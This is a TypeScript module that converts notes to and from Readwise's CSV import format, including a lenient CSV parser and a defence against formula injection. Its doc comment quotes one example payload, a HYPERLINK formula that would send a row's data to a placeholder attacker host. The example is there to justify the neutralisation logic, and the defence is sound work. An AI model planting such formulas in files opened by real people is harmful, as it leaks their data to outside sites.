/**
 * Readwise's CSV import (https://readwise.io/import_bulk), both ways. Pure: no browser APIs.
 *
 * Columns, exactly: `Highlight,Title,Author,URL,Note,Location,Date`.
 * - Highlight: the passage (`note.exact`); empty for a note on the page as a whole (a page note,
 *   first among its page's rows), whose text is in Note. Verbatim reads such a row back as a page
 *   note; Readwise, which wants a highlight, would refuse it.
 * - Title, Author: the article's title and byline (else the quote's attribution, else the URL),
 *   on one line (a line break in a title is whitespace).
 * - URL: the page the note was made on (its normalised URL, Verbatim's key for the page).
 * - Note: the note's tags in Readwise's inline syntax first, then its text:
 *   `.tag1 .tag2 the note`. Readwise tags cannot hold spaces, so a space in a tag becomes `-`
 *   (`machine learning` → `.machine-learning`).
 * - Location: the passage's character offset in the page (TextPositionSelector `start`), or
 *   empty; Readwise sorts a source's highlights by it.
 * - Date: when the note was made, `YYYY-MM-DD HH:MM:SS` in UTC (read as a date by Readwise and
 *   by spreadsheets; ISO 8601 with a `T` is not, in Excel).
 * - Speaker, after Readwise's columns and only when a note of the file has one: who said a quote's
 *   words. Readwise has no such field (its importers, as Verbatim's, read columns by name); Verbatim
 *   reads a row with a speaker back as a quote.
 *
 * The file is RFC 4180: fields holding a comma, quote, CR or LF are quoted, quotes doubled,
 * every line ends with CRLF. It starts with a UTF-8 byte order mark (U+FEFF; encode the string
 * as UTF-8) so Excel reads « é », emoji and ’ as UTF-8 rather than the system code page.
 *
 * Cells a spreadsheet would run as a formula are neutralised, as OWASP advises ("CSV
 * Injection"): page text is hostile, and a title `=HYPERLINK("https://evil.example/?"&E2,"x")`
 * would send the row's Note to that site when the file is opened. A cell starting with `=`, `+`,
 * `-`, `@`, tab or CR (OWASP's list), or with whitespace and then `=`, `+`, `-` or `@` (what a
 * trimming importer would see), is written quoted with a `'` first: `"'=HYPERLINK(…)"`, and a
 * note `-5% de marge` as `'-5% de marge`. Readwise imports such a file as before, but shows the
 * `'`. Verbatim's own import removes it, so text comes back exactly; to tell it from a `'` of the
 * text itself, a cell that already starts with `'`s and then a formula start gets one more `'`
 * too, and the reader removes one `'` only from cells of that shape (`'Tis` stays `'Tis`). OWASP
 * names no other characters: full-width `＝` and other look-alikes are written as they are.
 */
import * as v from 'valibot';
import type { Article, Note, TextPositionSelector, TextQuoteSelector } from '../domain/model';
import { inReadingOrder } from '../domain/notes';
import { MAX_URL_LENGTH, normalizeUrl } from '../extract/url';
import { MAX_TAG_LENGTH } from '../domain/tags';
import { cleanSpeaker } from '../domain/speaker';
import { NoteRecordSchema } from './backup';
import { FormatError, describeIssue, issuePath } from './format-error';
import { stableId } from './stable-id';

export const READWISE_COLUMNS = ['Highlight', 'Title', 'Author', 'URL', 'Note', 'Location', 'Date'] as const;
/** The column after Readwise's that a file has when one of its notes has a speaker. */
export const SPEAKER_COLUMN = 'Speaker';

const BOM = '\uFEFF';
const CRLF = '\r\n';

export interface ReadwiseCsvOptions {
  /** Start with a UTF-8 byte order mark; default true. */
  bom?: boolean;
}

/** The notes as a Readwise CSV, grouped by page (articles' order), in reading order. */
export function toReadwiseCsv(articles: readonly Article[], notes: readonly Note[], opts: ReadwiseCsvOptions = {}): string {
  const byUrl = new Map(articles.map((a) => [a.url, a]));
  const order = new Map(articles.map((a, i) => [a.url, i]));
  const sorted = inReadingOrder([...notes]).sort(
    (a, b) => (order.get(a.url) ?? order.size) - (order.get(b.url) ?? order.size) || (a.url < b.url ? -1 : a.url > b.url ? 1 : 0),
  );
  const speakers = sorted.some((n) => n.speaker);
  const lines = [[...READWISE_COLUMNS, ...(speakers ? [SPEAKER_COLUMN] : [])].join(',')];
  for (const note of sorted) {
    const article = byUrl.get(note.url);
    const position = note.selectors.find((s): s is TextPositionSelector => s.type === 'TextPositionSelector');
    lines.push(
      [
        note.exact,
        oneLine(article?.title || note.attribution?.title || note.url),
        oneLine(article?.byline || note.attribution?.author || ''),
        note.url,
        readwiseNote(note.note, note.tags),
        position ? String(position.start) : '',
        readwiseDate(note.createdAt),
        ...(speakers ? [note.speaker ?? ''] : []),
      ]
        .map(csvCell)
        .join(','),
    );
  }
  return (opts.bom === false ? '' : BOM) + lines.join(CRLF) + CRLF;
}

const oneLine = (text: string) => text.replace(/\s+/gu, ' ').trim();

/** One field, quoted when RFC 4180 requires it. */
export function csvField(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}

/**
 * A cell that starts, after any `'`, with what a spreadsheet reads as a formula (OWASP's list), or
 * with whitespace and then a formula sign, which an importer that trims whitespace would run.
 */
const FORMULA_START = /^'*(?:[\t\r]|\s*[=+\-@])/;

/** The cell with a leading `'` when a spreadsheet would read it as a formula (see the module doc). */
export function neutralizeCell(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** `neutralizeCell` undone: its output, and any other cell, back to the text it was made from. */
export function restoreCell(value: string): string {
  return value.startsWith("'") && FORMULA_START.test(value) ? value.slice(1) : value;
}

/** One field of an exported row: neutralised against formulas, and then always quoted (OWASP). */
export function csvCell(value: string): string {
  const safe = neutralizeCell(value);
  return safe === value ? csvField(value) : `"${safe.replace(/"/g, '""')}"`;
}

/** Tags as Readwise's inline `.tag`, then the note. */
export function readwiseNote(note: string, tags: readonly string[]): string {
  const inline = tags.map(readwiseTag).filter(Boolean).map((t) => `.${t}`);
  return [...inline, note].filter(Boolean).join(' ');
}

function readwiseTag(tag: string): string {
  return tag.trim().replace(/\s+/gu, '-').replace(/^\.+/, '');
}

/** `YYYY-MM-DD HH:MM:SS`, UTC. */
export function readwiseDate(ms: number): string {
  return new Date(ms).toISOString().slice(0, 19).replace('T', ' ');
}

// ---- Reading ------------------------------------------------------------------------------

/**
 * Splits CSV text into records of fields (RFC 4180, read leniently): CRLF, LF or CR line ends;
 * quoted fields may hold commas, quotes (doubled) and line breaks; a quote inside an unquoted
 * field is kept as text. Throws when a quoted field is never closed, or text follows a closing
 * quote, naming the row (row 1 is the first line of the file, as a spreadsheet numbers it).
 */
export function parseCsv(text: string): string[][] {
  const src = text.charCodeAt(0) === 0xfeff ? text.slice(1) : text;
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const n = src.length;
  for (;;) {
    // One field, starting at i.
    let field: string;
    if (src.charCodeAt(i) === 34 /* " */) {
      const start = i + 1;
      let j = start;
      let value = '';
      for (;;) {
        const q = src.indexOf('"', j);
        if (q === -1) throw new FormatError('a quoted field is never closed (the file ends early)', `row ${rows.length + 1}`);
        if (src.charCodeAt(q + 1) === 34) {
          value += src.slice(j, q + 1);
          j = q + 2;
          continue;
        }
        value += src.slice(j, q);
        i = q + 1;
        break;
      }
      const next = src.charCodeAt(i);
      if (i < n && next !== 44 && next !== 10 && next !== 13) {
        throw new FormatError(`text after the closing quote of field ${row.length + 1}`, `row ${rows.length + 1}`);
      }
      field = value;
    } else {
      let j = i;
      while (j < n) {
        const c = src.charCodeAt(j);
        if (c === 44 || c === 10 || c === 13) break;
        j++;
      }
      field = src.slice(i, j);
      i = j;
    }
    row.push(field);
    if (i >= n) {
      rows.push(row);
      break;
    }
    const c = src.charCodeAt(i);
    if (c === 44) {
      i++;
      continue;
    }
    // A line end: CRLF, LF or CR.
    i += c === 13 && src.charCodeAt(i + 1) === 10 ? 2 : 1;
    rows.push(row);
    row = [];
    if (i >= n) break;
  }
  return rows;
}

/** One row of a Readwise CSV; columns the file lacks are undefined. */
export interface ReadwiseRow {
  /** Row number in the file, as a spreadsheet shows it (the header is row 1). */
  row: number;
  highlight: string;
  title?: string;
  author?: string;
  url?: string;
  note?: string;
  location?: string;
  date?: string;
  /** Readwise's own exports have a `Tags` column (comma-separated). */
  tags?: string;
  /** Who said a quote's words (Verbatim's own column). */
  speaker?: string;
}

type Field = Exclude<keyof ReadwiseRow, 'row'>;

/** Header names, lower-cased: Readwise's import columns, and those of Readwise's own export. */
const HEADERS: Record<string, Field> = {
  highlight: 'highlight',
  title: 'title',
  'book title': 'title',
  author: 'author',
  'book author': 'author',
  url: 'url',
  'source url': 'url',
  note: 'note',
  location: 'location',
  date: 'date',
  'highlighted at': 'date',
  tags: 'tags',
  speaker: 'speaker',
};

/**
 * Reads a Readwise CSV: a header row naming the columns (any order, any case; only `Highlight`
 * is required; unknown columns are ignored), then one highlight per row. Blank rows are skipped.
 * A cell neutralised against formulas gets its text back (`restoreCell`). Throws a FormatError naming the row for a missing Highlight column or an empty highlight.
 */
export function parseReadwiseCsv(text: string): ReadwiseRow[] {
  if (typeof text !== 'string' || !text.replace(/^\uFEFF/, '').trim()) throw new FormatError('the file is empty');
  const [header, ...records] = parseCsv(text);
  const columns = header!.map((name) => HEADERS[name.trim().toLowerCase()]);
  if (!columns.includes('highlight')) {
    throw new FormatError(`no "Highlight" column (found: ${header!.map((h) => JSON.stringify(h.slice(0, 40))).join(', ')})`, 'row 1');
  }
  const out: ReadwiseRow[] = [];
  records.forEach((fields, index) => {
    const rowNumber = index + 2;
    if (fields.every((f) => !f.trim())) return;
    const row: ReadwiseRow = { row: rowNumber, highlight: '' };
    columns.forEach((column, i) => {
      const value = fields[i] === undefined ? undefined : restoreCell(fields[i]!);
      if (column && value !== undefined && row[column] === undefined) row[column] = value;
      else if (column === 'highlight' && value !== undefined && !row.highlight) row.highlight = value;
    });
    // No highlight but a note: a note on the page as a whole (as `toReadwiseCsv` writes one).
    if (!row.highlight.trim() && !row.note?.trim()) throw new FormatError('the highlight is empty', `row ${rowNumber}`);
    out.push(row);
  });
  return out;
}

export interface ReadwiseImport {
  articles: Article[];
  notes: Note[];
  /** Rows Verbatim cannot keep (no http(s) URL: notes belong to a page). */
  skipped: Array<{ row: number; reason: string }>;
}

export interface ReadwiseImportOptions {
  /** The time given to rows without a date; default now. */
  now?: number;
}

/**
 * Readwise rows as Verbatim records: one highlight per row, one article per page. Ids derive
 * from the page, passage and location, so importing the same file twice updates the same notes.
 * A note's tags are read back from its leading `.tag` words and from a `Tags` column. Dates
 * without a time zone are read as UTC (as written by `toReadwiseCsv`). Throws a FormatError
 * naming the row for a date that cannot be read or a value beyond Verbatim's limits.
 * Articles are minimal (title, author): import them with `articles: 'add-only'`.
 */
export function readwiseToRecords(rows: readonly ReadwiseRow[], opts: ReadwiseImportOptions = {}): ReadwiseImport {
  const now = opts.now ?? Date.now();
  const articles = new Map<string, Article>();
  const notes: Note[] = [];
  const skipped: ReadwiseImport['skipped'] = [];
  for (const row of rows) {
    const where = `row ${row.row}`;
    const url = pageUrl(row.url);
    if (!url) {
      skipped.push({ row: row.row, reason: row.url?.trim() ? `not an http(s) URL: ${row.url.slice(0, 80)}` : 'no URL' });
      continue;
    }
    const time = row.date?.trim() ? readDate(row.date, where) : now;
    const location = row.location?.trim() ? Number(row.location.trim()) : NaN;
    const { tags, note } = splitTags(row.note ?? '');
    for (const t of (row.tags ?? '').split(',')) if (t.trim()) tags.push(t.trim());

    const onPage = !row.highlight.trim();
    const exact = onPage ? '' : row.highlight;
    const selectors: Note['selectors'] = onPage ? [] : [{ type: 'TextQuoteSelector', exact } satisfies TextQuoteSelector];
    if (!onPage && Number.isSafeInteger(location) && location >= 0) {
      selectors.push({ type: 'TextPositionSelector', start: location, end: location + exact.length });
    }
    const speaker = onPage ? undefined : cleanSpeaker(row.speaker ?? '');
    const record: Note = {
      id: stableId(onPage ? `readwise-page-note\n${url}\n${note}` : `readwise\n${url}\n${exact}\n${Number.isNaN(location) ? '' : location}`),
      url,
      kind: onPage ? 'page' : speaker ? 'quote' : 'highlight',
      color: 'yellow',
      exact,
      selectors,
      note,
      tags: tags.filter((t) => t.length <= MAX_TAG_LENGTH).slice(0, 100),
      createdAt: time,
      updatedAt: time,
      ...(speaker && { speaker }),
    };
    const checked = v.safeParse(NoteRecordSchema, record);
    if (!checked.success) {
      const issue = checked.issues[0]!;
      throw new FormatError(`${issuePath(issue) || 'row'}: ${describeIssue(issue)}`, where);
    }
    notes.push(record);

    const article = articles.get(url);
    if (!article) {
      const page: Article = {
        id: stableId(`readwise-page\n${url}`),
        url,
        title: (row.title?.trim() || url).slice(0, 2_000),
        tags: [],
        createdAt: time,
        updatedAt: time,
      };
      if (row.author?.trim()) page.byline = row.author.trim().slice(0, 2_000);
      articles.set(url, page);
    } else {
      article.createdAt = Math.min(article.createdAt, time);
      article.updatedAt = Math.max(article.updatedAt, time);
    }
  }
  return { articles: [...articles.values()], notes, skipped };
}

function pageUrl(raw: string | undefined): string | undefined {
  const text = raw?.trim();
  if (!text || !/^https?:\/\//i.test(text)) return undefined;
  try {
    const url = normalizeUrl(text);
    return url.length <= MAX_URL_LENGTH ? url : undefined;
  } catch {
    return undefined;
  }
}

/** Leading `.tag` words of a Readwise note, and the rest. */
export function splitTags(text: string): { tags: string[]; note: string } {
  const tags: string[] = [];
  let rest = text;
  for (;;) {
    const m = /^\s*\.([^\s.][^\s]*)(?=\s|$)/u.exec(rest);
    if (!m) break;
    tags.push(m[1]!);
    rest = rest.slice(m[0].length);
  }
  return { tags, note: tags.length ? rest.replace(/^[ \t]/, '') : text };
}

/** `YYYY-MM-DD[ HH:MM[:SS]]` as UTC, or anything with a zone that Date reads. */
function readDate(raw: string, where: string): number {
  const text = raw.trim();
  const m = /^(\d{4})-(\d{2})-(\d{2})(?:[ T](\d{2}):(\d{2})(?::(\d{2})(?:\.(\d{1,3}))?)?)?$/.exec(text);
  const ms = m
    ? Date.UTC(+m[1]!, +m[2]! - 1, +m[3]!, +(m[4] ?? 0), +(m[5] ?? 0), +(m[6] ?? 0), +(m[7] ?? '0').padEnd(3, '0'))
    : Date.parse(text);
  if (!Number.isFinite(ms) || ms < 0) throw new FormatError(`not a date: ${JSON.stringify(text.slice(0, 40))}`, where);
  return ms;
}
